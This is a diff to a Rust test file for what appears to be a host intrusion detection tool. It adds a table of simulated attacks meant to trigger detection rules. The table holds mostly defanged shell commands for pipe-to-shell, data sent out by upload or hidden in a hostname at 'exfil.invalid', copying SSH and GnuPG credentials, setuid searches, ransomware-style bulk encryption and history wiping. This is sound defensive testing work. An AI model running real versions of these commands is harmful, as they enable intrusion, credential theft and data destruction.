@@ -95,6 +95,34 @@ const ATTACKS: &[(&str, &str)] = &[
     ("listener_executed", "sh -c ': nc -lvp 4444'"),
     ("ssh_tunnel", "cp /bin/true /usr/local/bin/chisel; /usr/local/bin/chisel client"),
     ("disk_wiped", "echo >/tmp/secret; shred -u /tmp/secret"),
+    ("shell_escape", "awk 'BEGIN { system(\"true\") }'"),
+    ("terminal_spawned", "sh -c \": script -qc /bin/sh\""),
+    ("decoded_into_pipe", "echo Ogo= | base64 -d | sh"),
+    ("download_into_pipe", "curl -s file:///dev/null | sh"),
+    ("package_manager_spawned_downloader", "cp /bin/sh /usr/local/bin/npm; /usr/local/bin/npm -c 'curl -s file:///dev/null; true'"),
+    ("account_created", "useradd -D -s /bin/sh"),
+    ("system_program_replaced", "mv /usr/bin/last /usr/bin/last.real"),
+    ("sudo_rights_listed", "/usr/local/bin/sudo -l"),
+    ("kernel_module_tool_executed", "cp /bin/true /usr/local/bin/insmod; /usr/local/bin/insmod x.ko"),
+    ("password_guessing", "for p in a b c; do echo $p | /usr/local/bin/sudo -S id; done"),
+    ("file_in_device_directory", "mount --bind /mnt/dev /dev; echo >/dev/.hidden; umount /dev"),
+    ("processes_hidden", "sh -c ': mount -o remount,hidepid=2 /proc'"),
+    ("clock_changed", "setpriv --reuid=65534 --clear-groups date -s 2001-01-01"),
+    ("credentials_searched", "find /root -name id_rsa"),
+    ("credentials_copied", "mkdir -p /root/.gnupg; cp -r /root/.gnupg /tmp/stolen"),
+    ("upload_by_web_client", "curl -s -F f=@/etc/hostname http://127.0.0.1:9/"),
+    ("data_in_host_name", "curl -s http://aWQtNDcxMQ==.exfil.invalid/"),
+    ("unit_of_temporary_file", "mkdir -p /etc/systemd/system; ln -s /tmp/x.service /etc/systemd/system/x.service"),
+    ("setuid_programs_searched", "find /root -perm -4000"),
+    ("mail_removed", "mkdir -p /var/mail; echo >/var/mail/nobody; rm /var/mail/nobody"),
+    ("program_removed_itself", "cp /usr/bin/perl /tmp/once; /tmp/once -e 'unlink \"/tmp/once\"'"),
+    ("kernel_crypto_socket", "perl -e 'socket(my $s, 38, 5, 0)'"),
+    (
+        "encryption_in_bulk",
+        "for n in $(seq 1 12); do echo $n >/tmp/d$n; openssl enc -aes-128-cbc -pbkdf2 -k k -in /tmp/d$n -out /tmp/d$n.locked; done",
+    ),
+    ("systemd_unit_modification", "mkdir -p /etc/systemd/system; echo >/etc/systemd/system/tarsius.service"),
+    ("history_removed", "echo >/root/.bash_history; rm /root/.bash_history"),
 ];
 
 /// What people and programs do all day.
@@ -115,7 +143,7 @@ useradd --help; systemctl --version; ssh -V; git --version; openssl version; ip 
 
 /// The findings of a script's processes.
 fn findings(script: &str) -> Vec<Line> {
-    let dir = tempfile::Builder::new().prefix("tarsius-rules-").tempdir_in("/var/tmp").unwrap();
+    let dir = tempfile::Builder::new().prefix("tarsius-rules-").tempdir_in("/run").unwrap();
     let path = dir.path().join("script");
     fs::write(&path, format!("{PRELUDE}{script}")).unwrap();
     let command = format!("unshare --mount --net --ipc --uts /bin/bash {}", path.display());
